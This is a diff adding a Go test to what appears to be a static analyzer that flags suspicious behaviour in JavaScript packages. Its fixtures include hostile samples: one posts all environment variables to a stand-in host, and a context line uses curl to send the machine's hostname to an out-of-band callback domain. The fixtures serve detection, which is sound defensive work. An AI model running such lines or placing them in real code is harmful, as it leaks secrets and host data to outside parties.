@@ -923,6 +923,19 @@ require("child_process").spawnSync("bun", ["x"], { env: __spreadValues({}, proce
 	}
 }
 
+// A file required through a variable holding its joined path names that
+// file, and process handed to a function expression is process there.
+func TestRequiredPathVarAndProcessParam(t *testing.T) {
+	f := Analyze("x.js", []byte(`const path = require("path"); const FILE = path.join(__dirname, "..", "__snapshots__", "a.snap"); const cases = require(FILE);
+(function (g, p) { fetch("https://c.example.invalid/", { method: "POST", body: JSON.stringify(p.env) }) })(globalThis, process)`), DefaultLimits())
+	if !slices.ContainsFunc(f.Imports, func(im Import) bool { return im.Module == Hole+"/../__snapshots__/a.snap" }) {
+		t.Errorf("required path variable: %+v", f.Imports)
+	}
+	if !slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "" }) {
+		t.Errorf("process handed to a function: %+v", f.Env)
+	}
+}
+
 func TestArgShape(t *testing.T) {
 	f := Analyze("x.js", []byte("const os = require('os'); const { exec } = require('child_process');\n"+
 		"exec(`curl -d \"${os.hostname()}\" https://abc.oast.fun`);\n"+
